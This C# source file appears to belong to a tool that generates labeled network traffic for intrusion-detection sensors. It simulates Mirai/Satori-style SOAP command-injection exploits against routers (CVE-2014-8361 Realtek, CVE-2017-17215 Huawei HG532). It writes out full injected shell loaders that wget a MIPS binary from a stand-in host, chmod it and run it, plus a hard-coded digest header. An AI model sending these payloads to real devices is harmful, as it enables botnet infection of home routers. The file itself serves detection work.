using Analyzer.Labels;
using Analyzer.Generation.Messages;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// Mirai/Satori-style SOAP exploits from an infected LAN host: the Realtek miniigd AddPortMapping with a shell command
/// in NewInternalClient (CVE-2014-8361; the IGD's control URL and the SDK's /picdesc.xml path), and the Huawei HG532
/// DeviceUpgrade with <c>$(…)</c> in NewStatusURL and its hard-coded digest (CVE-2017-17215). They are sent to the
/// router's IGD port, where they draw 402 (control URL) and 404 (the SDKs' paths): what matters to a sensor is the
/// content, not the path or port.
/// </summary>
public sealed class SoapCommandInjectionScenario : AttackScenario
{
    public override string Name => "soap-command-injection";
    public override string Description => "attack: shell commands in SOAP arguments (Realtek NewInternalClient, Huawei HG532 NewStatusURL)";
    public override string Category => LabelNames.ExploitAttempt;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.Camera.Host;
        var router = net.RouterLan.V4;
        const string userAgent = "Mozilla/5.0 (Windows NT 6.1; rv:40.0) Gecko/20100101 Firefox/40.0";
        var igd = new IgdClient(ctx, attacker.V4, userAgent, ctx.Variation.ScriptHttp, SoapStyle.MiniUpnpc with { Client = SoapClientKind.Script });
        string loader = $"`cd /var; rm -rf nig; wget http://198.51.100.66/bins/mips -O nig; chmod 777 nig; ./nig realtek`";
        var injected = new PortMapping(47450, "TCP", 44382, loader, "syncthing", 0);

        long at = t + random.Next(300_000, 1_500_000);
        (t, _) = igd.Add(at, injected);
        ctx.Mark(LabelNames.ExploitAttempt, "soap-realtek-miniigd-injection", attacker.Ipv4, router.Address, at, t,
            "shell command in NewInternalClient (control URL)");

        // The Realtek SDK's own path, as the bots send it whatever the device: this daemon does not serve it (404).
        at = t + random.Next(300_000, 1_500_000);
        const string realtekService = Network.IgdServiceType.WanIpConnection1;
        var arguments = injected.AddArguments().ToArray();
        var soap = SoapStyle.MiniUpnpc with { Client = SoapClientKind.Script };
        var request = SoapMessages.Request(ctx.Variation.ScriptHttp, soap, ScenarioContext.HostPort(router.Address, net.Igd.ControlPort),
            "/picdesc.xml", realtekService, "AddPortMapping", userAgent,
            SoapMessages.RequestBody(soap, realtekService, "AddPortMapping", arguments));
        t = ctx.HttpExchange(at, attacker.V4, router, net.Igd.ControlPort, request, time => DescriptionHttp.NotFound(net.Igd.Server, time));
        ctx.Mark(LabelNames.ExploitAttempt, "soap-realtek-miniigd-injection", attacker.Ipv4, router.Address, at, t,
            "shell command in NewInternalClient (POST /picdesc.xml)");

        at = t + random.Next(300_000, 1_500_000);
        t = ctx.HttpExchange(at, attacker.V4, router, net.Igd.ControlPort, Hg532Upgrade(ctx, router.Address.ToString()),
            time => DescriptionHttp.NotFound(net.Igd.Server, time));
        ctx.Mark(LabelNames.ExploitAttempt, "soap-huawei-hg532-upgrade", attacker.Ipv4, router.Address, at, t,
            "POST /ctrlt/DeviceUpgrade_1 with $( ) in NewStatusURL");
        return t;
    }

    private static byte[] Hg532Upgrade(ScenarioContext ctx, string routerAddress)
    {
        const string body = "<?xml version=\"1.0\" ?>\n<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" " +
            "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">\n<s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">\n" +
            "<NewStatusURL>$(/bin/busybox wget -g 198.51.100.66 -l /tmp/huawei -r /bins/mips; chmod 777 /tmp/huawei; /tmp/huawei huawei)</NewStatusURL>\n" +
            "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>\n</u:Upgrade>\n</s:Body>\n</s:Envelope>\n\n";
        string hostPort = ScenarioContext.HostPort(System.Net.IPAddress.Parse(routerAddress), ctx.Network.Igd.ControlPort);
        return HttpText.Request(HttpStyle.Standard, "POST", "/ctrlt/DeviceUpgrade_1",
        [
            ("Host", hostPort), ("Content-Length", HttpText.Length(body)), ("Connection", "keep-alive"),
            ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"), ("User-Agent", "python-requests/2.20.0"),
            ("Authorization", "Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", " +
                "uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", " +
                "nc=00000001, cnonce=\"248d1a2560100669\""),
        ], body);
    }
}
